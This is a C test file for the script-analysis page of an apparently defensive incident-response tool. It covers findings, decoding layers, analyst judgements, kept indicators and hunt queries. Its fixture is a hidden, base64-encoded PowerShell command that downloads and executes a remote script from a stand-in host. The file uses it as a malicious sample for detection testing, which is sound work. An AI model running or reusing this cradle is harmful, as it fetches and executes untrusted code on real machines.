/* test-script-page.c
 *
 * The script page: findings light up, layers, keys, kept indicators, states.
 *
 * SPDX-License-Identifier: MIT
 */
#include "config.h"

#include <string.h>

#include "vdt-hunt-page.h"
#include "vdt-incident-page.h"
#include "vdt-script-page.h"
#include "vdt-state-view.h"
#include "vdt-ui-fixture.h"

/* Encoded: IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1') */
static const char encoded[] =
  "powershell -nop -w hidden -enc "
  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
  "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZgBpAGwAZQBzAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AC8AYQAuAHAAcwAxACcA"
  "KQA=";

static VdtScriptPage *
script_page (VdtUiFixture *f)
{
  VdtPage *page = vdt_window_get_page (f->window);

  return VDT_IS_SCRIPT_PAGE (page) ? VDT_SCRIPT_PAGE (page) : NULL;
}

static gboolean
is_analysed (gpointer data)
{
  VdtScriptPage *page = script_page (data);

  return page != NULL && vdt_script_page_get_report (page) != NULL;
}

static void
open_script (VdtUiFixture *f,
             const char   *text)
{
  gtk_widget_activate_action (GTK_WIDGET (f->window), "win.analyse-script", "s", text);
  vdt_ui_fixture_wait (is_analysed, f);
  vdt_ui_fixture_settle ();
}

static void
test_findings (VdtUiFixture  *f,
               gconstpointer  data)
{
  VdtScriptPage *page;
  VdtScriptReport *report;
  guint n;

  open_script (f, encoded);
  page = script_page (f);
  report = vdt_script_page_get_report (page);
  n = g_list_model_get_n_items (vdt_script_report_get_findings (report));
  g_assert_cmpuint (n, >=, 2);
  g_assert_cmpuint (g_list_model_get_n_items (vdt_script_report_get_layers (report)), >=, 2);
  g_assert_cmpuint (vdt_ui_fixture_count_nameless (GTK_WIDGET (f->window)), ==, 0);
  g_assert_true (gtk_widget_is_ancestor (gtk_root_get_focus (GTK_ROOT (f->window)), GTK_WIDGET (page)));

  /* Each finding lights up in the original; one of a layer in that layer too. */
  for (guint i = 0; i < n; i++)
    {
      VdtReportFinding *finding = VDT_REPORT_FINDING (vdt_page_get_selected (VDT_PAGE (page)));
      g_autofree char *original = vdt_script_page_dup_marked (page, TRUE);
      g_autofree char *layer = vdt_script_page_dup_marked (page, FALSE);

      g_assert_cmpuint (vdt_report_finding_get_number (finding), ==, i + 1);
      g_assert_nonnull (original);
      if (vdt_report_finding_get_layer (finding) > 0)
        g_assert_nonnull (layer);
      g_assert_true (vdt_window_run_action (f->window, "script.next-finding"));
    }
  /* The last is followed by the first. */
  g_assert_cmpuint (vdt_report_finding_get_number (VDT_REPORT_FINDING (vdt_page_get_selected (VDT_PAGE (page)))),
                    ==, 1);
}

static void
test_layers (VdtUiFixture  *f,
             gconstpointer  data)
{
  VdtScriptPage *page;
  guint n;

  open_script (f, encoded);
  page = script_page (f);
  n = g_list_model_get_n_items (vdt_script_report_get_layers (vdt_script_page_get_report (page)));
  while (vdt_script_page_get_layer (page) > 1)
    gtk_widget_activate_action (GTK_WIDGET (page), "script.previous-layer", NULL);
  for (guint i = 1; i < n; i++)
    {
      g_assert_cmpuint (vdt_script_page_get_layer (page), ==, i);
      gtk_widget_activate_action (GTK_WIDGET (page), "script.next-layer", NULL);
    }
  g_assert_cmpuint (vdt_script_page_get_layer (page), ==, n - 1);
}

static void
test_judge (VdtUiFixture  *f,
            gconstpointer  data)
{
  VdtScriptPage *page;
  VdtReportFinding *finding;

  open_script (f, encoded);
  page = script_page (f);
  finding = VDT_REPORT_FINDING (vdt_page_get_selected (VDT_PAGE (page)));
  gtk_widget_activate_action (GTK_WIDGET (page), "script.agree", NULL);
  g_assert_cmpstr (vdt_report_finding_get_judgement (finding), ==, "agreed");
  gtk_widget_activate_action (GTK_WIDGET (page), "script.not-relevant", NULL);
  g_assert_cmpstr (vdt_report_finding_get_judgement (finding), ==, "not-relevant");
  gtk_widget_activate_action (GTK_WIDGET (page), "script.not-relevant", NULL);
  g_assert_null (vdt_report_finding_get_judgement (finding));
}

typedef struct
{
  GListModel *model;
  guint       n;
} Count;

static gboolean
has_count (gpointer data)
{
  Count *count = data;

  return g_list_model_get_n_items (count->model) == count->n;
}

static gboolean
has_any (gpointer model)
{
  return g_list_model_get_n_items (model) > 0;
}

static void
test_keep (VdtUiFixture  *f,
           gconstpointer  data)
{
  VdtIncident *incident = vdt_page_get_incident (vdt_window_get_page (f->window));
  Count count = { vdt_incident_get_kept (incident) };

  open_script (f, encoded);
  g_assert_true (vdt_page_get_incident (VDT_PAGE (script_page (f))) == incident);
  g_assert_true (vdt_window_run_action (f->window, "script.keep-indicators"));
  vdt_ui_fixture_wait (has_any, count.model);
  vdt_ui_fixture_settle ();
  gtk_widget_activate_action (GTK_WIDGET (f->window), "win.undo", NULL);
  vdt_ui_fixture_wait (has_count, &count);
}

/* The same script again is the same tab; a script of no alert has nowhere to keep. */
static void
test_clipboard (VdtUiFixture  *f,
                gconstpointer  data)
{
  GtkWidget *root = GTK_WIDGET (f->window);
  AdwTabView *view = ADW_TAB_VIEW (vdt_ui_fixture_find (root, ADW_TYPE_TAB_VIEW));
  int n = adw_tab_view_get_n_pages (view);

  gdk_clipboard_set_text (gtk_widget_get_clipboard (root), encoded);
  gtk_widget_activate_action (root, "win.analyse-clipboard", NULL);
  vdt_ui_fixture_wait (is_analysed, f);
  g_assert_cmpint (adw_tab_view_get_n_pages (view), ==, n + 1);
  g_assert_null (vdt_page_get_incident (VDT_PAGE (script_page (f))));
  vdt_ui_fixture_settle ();
  open_script (f, encoded);
  g_assert_cmpint (adw_tab_view_get_n_pages (view), ==, n + 1);
}

static gboolean
is_failed (gpointer page)
{
  GtkWidget *view = vdt_ui_fixture_find (page, VDT_TYPE_STATE_VIEW);

  return view != NULL && vdt_state_view_get_state (VDT_STATE_VIEW (view)) == VDT_VIEW_STATE_FAILED;
}

static void
test_states (VdtUiFixture  *f,
             gconstpointer  data)
{
  g_autoptr(GFile) file = g_file_new_for_path ("/no/such/script.ps1");
  GtkWidget *window = gtk_window_new ();
  GtkWidget *failed = vdt_script_page_new_for_file (f->session, file);
  GtkWidget *empty = vdt_script_page_new (f->session, " \n", "Script");

  gtk_window_set_child (GTK_WINDOW (window), failed);
  gtk_window_present (GTK_WINDOW (window));
  vdt_ui_fixture_wait (is_failed, failed);
  gtk_window_set_child (GTK_WINDOW (window), empty);
  vdt_ui_fixture_settle ();
  g_assert_cmpint (vdt_state_view_get_state (VDT_STATE_VIEW (vdt_ui_fixture_find (empty, VDT_TYPE_STATE_VIEW))),
                   ==, VDT_VIEW_STATE_EMPTY);

  g_object_add_weak_pointer (G_OBJECT (empty), (gpointer *) &empty);
  gtk_window_destroy (GTK_WINDOW (window));
  vdt_ui_fixture_settle ();
  g_assert_null (empty);
}

/* The query that is opened says where the indicators would be seen; that it binds: tests/session. */
static void
check_hunt (VdtUiFixture *f)
{
  VdtPage *page = vdt_window_get_page (f->window);
  g_autofree char *text = NULL;

  g_assert_true (VDT_IS_HUNT_PAGE (page));
  text = vdt_hunt_page_dup_text (VDT_HUNT_PAGE (page));
  g_assert_nonnull (text);
  g_assert_nonnull (strstr (text, "dynamic([\""));
  g_assert_nonnull (strstr (text, "union withsource"));
}

static VdtAlert *
find_alert (VdtUiFixture *f)
{
  VdtIncidentPage *page = VDT_INCIDENT_PAGE (vdt_window_get_page (f->window));
  GListModel *alerts = vdt_incident_get_alerts (vdt_page_get_incident (VDT_PAGE (page)));

  for (guint i = 0; i < g_list_model_get_n_items (alerts); i++)
    {
      g_autoptr(VdtAlert) alert = g_list_model_get_item (alerts, i);

      if (strstr (vdt_alert_get_title (alert), "PowerShell") != NULL)
        return g_steal_pointer (&alert);
    }

  return NULL;
}

/* From an alert to the verdict with two keys: the alert, then Ctrl+L. Then judged, kept
 * and hunted for, without a pointer. */
static void
test_journey (VdtUiFixture  *f,
              gconstpointer  data)
{
  GtkWidget *incident = GTK_WIDGET (vdt_window_get_page (f->window));
  GListModel *kept = vdt_incident_get_kept (vdt_page_get_incident (VDT_PAGE (incident)));
  g_autoptr(VdtAlert) alert = find_alert (f);
  g_autofree char *fact = g_strconcat ("A:", vdt_alert_get_id (alert), NULL);
  VdtReportFinding *finding;
  VdtScriptReport *report;

  g_assert_true (vdt_incident_page_show_fact (VDT_INCIDENT_PAGE (incident), "alerts", fact));
  vdt_ui_fixture_settle ();
  g_assert_true (vdt_window_run_action (f->window, "win.analyse-selected"));
  vdt_ui_fixture_wait (is_analysed, f);
  vdt_ui_fixture_settle ();

  report = vdt_script_page_get_report (script_page (f));
  g_assert_cmpstr (vdt_script_report_get_verdict (report), ==, "malicious");
  g_assert_cmpuint (g_list_model_get_n_items (vdt_script_report_get_layers (report)), >=, 2);
  g_assert_true (vdt_window_run_action (f->window, "script.next-finding"));
  finding = VDT_REPORT_FINDING (vdt_page_get_selected (VDT_PAGE (script_page (f))));
  g_assert_true (vdt_window_run_action (f->window, "script.agree"));
  g_assert_cmpstr (vdt_report_finding_get_judgement (finding), ==, "agreed");
  g_assert_true (vdt_window_run_action (f->window, "script.keep-indicators"));
  vdt_ui_fixture_wait (has_any, kept);
  g_assert_true (vdt_window_run_action (f->window, "script.hunt"));
  vdt_ui_fixture_settle ();
  check_hunt (f);
}

int
main (int   argc,
      char *argv[])
{
  static const struct
  {
    const char *path;
    void      (*func) (VdtUiFixture *, gconstpointer);
  } tests[] = {
    { "/ui/script-page/findings", test_findings },
    { "/ui/script-page/layers", test_layers },
    { "/ui/script-page/judge", test_judge },
    { "/ui/script-page/keep", test_keep },
    { "/ui/script-page/clipboard", test_clipboard },
    { "/ui/script-page/states", test_states },
    { "/ui/script-page/journey", test_journey },
  };

  vdt_ui_fixture_init (&argc, &argv);
  for (gsize i = 0; i < G_N_ELEMENTS (tests); i++)
    g_test_add (tests[i].path, VdtUiFixture, "sample", vdt_ui_fixture_set_up, tests[i].func,
                vdt_ui_fixture_tear_down);

  return g_test_run ();
}
